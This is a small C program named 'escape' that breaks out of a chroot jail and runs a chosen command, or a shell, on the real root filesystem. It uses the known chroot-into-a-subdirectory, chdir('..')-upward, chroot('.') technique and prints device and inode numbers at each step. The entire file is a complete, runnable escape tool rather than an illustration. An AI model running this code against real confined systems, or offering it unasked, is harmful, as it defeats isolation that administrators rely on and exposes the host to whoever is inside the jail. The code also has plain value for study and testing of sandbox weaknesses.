/*
 * escape - walk out of a chroot, and run COMMAND there.
 *
 *	./escape [COMMAND [ARG...]]		($SHELL, else sh)
 *
 * To be run in there, with CAP_SYS_CHROOT and a directory /bin. See chroot(2).
 */
#define _GNU_SOURCE
#include <sys/stat.h>
#include <err.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

/* Which directories are / and . now? DEVICE:INODE, as stat -c %d:%i says. */
static void
show(const char *when)
{
	struct stat root, cwd;

	if (stat("/", &root) == -1)
		err(1, "stat(/)");
	if (stat(".", &cwd) == -1)
		err(1, "stat(.)");
	printf("%-12s / is %ju:%ju, . is %ju:%ju\n", when,
	       (uintmax_t)root.st_dev, (uintmax_t)root.st_ino,
	       (uintmax_t)cwd.st_dev, (uintmax_t)cwd.st_ino);
	fflush(stdout);
}

/* Does .. lead nowhere else? */
static bool
at_the_top(void)
{
	struct stat cwd, up;

	if (stat(".", &cwd) == -1)
		err(1, "stat(.)");
	if (stat("..", &up) == -1)
		err(1, "stat(..)");
	return cwd.st_dev == up.st_dev && cwd.st_ino == up.st_ino;
}

int
main(int argc, char *argv[])
{
	char *shell[] = {getenv("SHELL"), NULL};
	char **command = argc > 1 ? &argv[1] : shell;

	if (argc > 1 && argv[1][0] == '-')
		errx(2, "usage: escape [COMMAND [ARG...]]");
	if (command[0] == NULL)
		command[0] = "sh";

	/* As far up as .. goes in here. */
	if (chdir("/") == -1)
		err(1, "chdir(/)");
	show("at first:");

	/* The root moves down, and the working directory stays above it. */
	if (chroot("bin") == -1)
		err(1, "chroot(bin)");
	show("chroot(bin):");

	/* The kernel stops .. at our root, which is not on the way up. */
	while (!at_the_top()) {
		if (chdir("..") == -1)
			err(1, "chdir(..)");
		show("chdir(..):");
	}

	/* The root is the top now, and so nothing is outside of it. */
	if (chroot(".") == -1)
		err(1, "chroot(.)");
	show("chroot(.):");

	execvp(command[0], command);
	err(127, "%s", command[0]);
}
